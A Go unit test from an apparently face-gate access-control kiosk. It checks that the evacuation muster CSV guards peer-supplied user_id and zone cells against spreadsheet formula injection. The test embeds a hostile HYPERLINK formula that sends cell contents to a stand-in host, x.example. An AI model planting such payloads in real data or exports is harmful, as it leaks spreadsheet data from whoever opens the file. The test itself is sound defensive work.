package kiosk

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/facegate/facegate/mqtt"
)

// TestMusterCSVGuardsEveryPeerTextCell: the muster list is the
// sheet marshals open in a spreadsheet during an evacuation. Its user_id and
// zone columns come from peers' events on the site topic, which
// mqtt.ParseSiteEvent accepts with any printable text (user_id: no control
// character; zone_to: printable, unchecked against the declared zones,
// "peers apply zone_to as is"). Only the name column goes through
// csvcell.Safe, so a formula in user_id or zone_to reaches the sheet as a
// formula.
func TestMusterCSVGuardsEveryPeerTextCell(t *testing.T) {
	const hostileUser = `=HYPERLINK("http://x.example/?"&A1,"w-17")`
	const hostileZone = `=1+1`
	// The wire accepts both (a peer's, or any broker client's, granted event).
	peer := `{"event_id":"e-1","seq":1,"ts":"2026-03-04T07:29:00.000Z","site":"site","gate":"east","decision":"granted",` +
		`"reason":["approved"],"user_id":` + jsonQuote(hostileUser) + `,"zone_from":"site","zone_to":` + jsonQuote(hostileZone) + `}`
	if _, err := mqtt.ParseSiteEvent([]byte(peer)); err != nil {
		t.Fatalf("the site wire refuses the peer event (then this hole is closed there): %v", err)
	}
	k, site := siteWebRig(t)
	h := k.Handler()
	at := time.Date(2026, 3, 4, 7, 30, 0, 0, time.UTC)
	site.mu.Lock()
	site.report.Evacuation = SiteEvacuation{Active: true, ID: "e1"}
	site.report.Muster = &SiteMuster{ID: "e1", Present: []SitePerson{{UserID: hostileUser, Zone: hostileZone, Since: at}}}
	site.mu.Unlock()
	rows, err := csv.NewReader(siteGet(h, "/site/muster.csv", "127.0.0.1:5000", nil).Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("muster.csv column %s is %q: a spreadsheet reads it as a formula", rows[0][i], cell)
			}
		}
	}
}

func jsonQuote(s string) string {
	return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(s) + `"`
}
